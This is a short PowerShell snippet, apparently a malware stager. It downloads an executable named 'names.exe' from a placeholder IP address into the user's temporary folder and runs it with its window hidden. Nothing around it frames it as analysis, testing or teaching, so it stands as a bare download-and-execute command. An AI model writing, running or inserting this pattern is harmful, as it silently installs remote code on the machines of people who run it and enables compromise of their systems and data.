$dst = Join-Path $env:TEMP 'names.exe'
(New-Object Net.WebClient).DownloadFile('http://203.0.113.44/names.exe', $dst)
Start-Process $dst -WindowStyle Hidden
